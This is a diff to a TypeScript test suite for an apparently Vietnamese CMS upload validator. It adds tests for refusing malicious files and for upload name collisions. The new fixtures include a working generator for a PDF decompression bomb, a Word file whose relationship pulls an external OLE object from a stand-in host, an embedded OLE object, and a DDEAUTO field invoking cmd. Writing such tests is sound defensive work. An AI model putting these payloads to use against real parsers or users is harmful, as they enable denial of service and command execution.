@@ -1,3 +1,5 @@
+import { buffer } from 'node:stream/consumers';
+import { createDeflate } from 'node:zlib';
 import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
 import { strToU8, zipSync } from 'fflate';
 import sharp from 'sharp';
@@ -41,6 +43,22 @@ async function pdf(change: (document: PDFDocument) => void = () => {}): Promise<
   change(document);
   return Buffer.from(await document.save({ useObjectStreams: true }));
 }
+/** Two megabytes that unpack to two gigabytes of blanks in an object stream. */
+async function pdfBomb(): Promise<Buffer> {
+  const blanks = Buffer.alloc(1 << 20, 0x20);
+  const deflate = createDeflate({ level: 9 });
+  const packed = buffer(deflate);
+  deflate.write('4 0 ');
+  for (let count = 0; count < 2048; count += 1)
+    if (!deflate.write(blanks)) await new Promise((resolve) => deflate.once('drain', resolve));
+  deflate.end('<</A 1>>');
+  const stream = await packed;
+  const head =
+    '%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n' +
+    `3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${stream.length}>>\nstream\n`;
+  const tail = '\nendstream\nendobj\ntrailer\n<</Root 1 0 R/Size 6>>\nstartxref\n0\n%%EOF\n';
+  return Buffer.concat([Buffer.from(head), stream, Buffer.from(tail)]);
+}
 const action =
   (name: string, more: object = {}) =>
   (document: PDFDocument) =>
@@ -57,10 +75,10 @@ const html = Buffer.from('<!doctype html><script>alert(1)</script>');
 
 describe('what is taken', () => {
   it.each([
-    ['content/media/anh.jpg', () => pictureWithPosition()],
+    ['content/media/anh-moi.jpg', () => pictureWithPosition()],
     ['content/media/anh.png', png],
     ['content/tep/van-ban.pdf', () => pdf()],
-    ['content/tep/mau.docx', async () => docx()],
+    ['content/tep/mau-moi.docx', async () => docx()],
     [
       'content/tep/muc-luc.pdf',
       () =>
@@ -176,6 +194,32 @@ describe('what is refused, with the reason in Vietnamese', () => {
       'upload-macros',
     ],
     [
+      'a Word file that fetches an object, told in other quotes',
+      'content/tep/a.docx',
+      async () =>
+        docx({
+          'word/_rels/document.xml.rels':
+            "<Relationship Id='r1' TargetMode = 'External' Type='http://x/oleObject' Target='http://ke-xau.example/x'/>",
+        }),
+      'upload-macros',
+    ],
+    [
+      'a Word file with an object of another program',
+      'content/tep/a.docx',
+      async () => docx({ 'word/embeddings/oleObject1.bin': 'x' }),
+      'upload-macros',
+    ],
+    [
+      'a Word file that asks another program',
+      'content/tep/a.docx',
+      async () =>
+        docx({
+          'word/document.xml': '<w:document><w:instrText> DDEAUTO cmd </w:instrText></w:document>',
+        }),
+      'upload-macros',
+    ],
+    ['a PDF that unpacks to gigabytes', 'content/tep/a.pdf', pdfBomb, 'upload-'],
+    [
       'a Word file that unpacks to gigabytes',
       'content/tep/a.docx',
       async () => docx({ 'word/a.xml': '0'.repeat(450 * 1024 * 1024) }),
@@ -222,15 +266,16 @@ describe('files of entries', () => {
     expect([status, body.error.code]).toEqual([422, 'not-uploaded']);
   });
 
-  it('a file never lands on another of the same name', async () => {
-    const { body } = await lan.upload('content/media/anh.jpg', await pictureWithPosition());
+  it('nobody’s upload takes the place of another’s', async () => {
+    expect((await lan.upload('content/media/chung.png', await png())).status).toBe(200);
+    const minh = await office.client('minh');
+    const taken = await minh.upload('content/media/chung.png', await png());
+    expect([taken.status, taken.body.error.code]).toEqual([409, 'file-taken']);
     const other = await sharp(await pictureWithPosition())
       .negate()
       .jpeg()
       .toBuffer();
-    const { body: changed } = await lan.upload('content/media/anh.jpg', other);
-    expect(changed.id).not.toBe(body.id);
-    const answer = await lan.cms('persistEntry', entry('trung-tep', 'anh.jpg', changed.id));
-    expect([answer.status, answer.body.error.code]).toEqual([409, 'file-taken']);
+    const published = await lan.upload('content/media/anh.jpg', other);
+    expect([published.status, published.body.error.code]).toEqual([409, 'file-taken']);
   });
 });
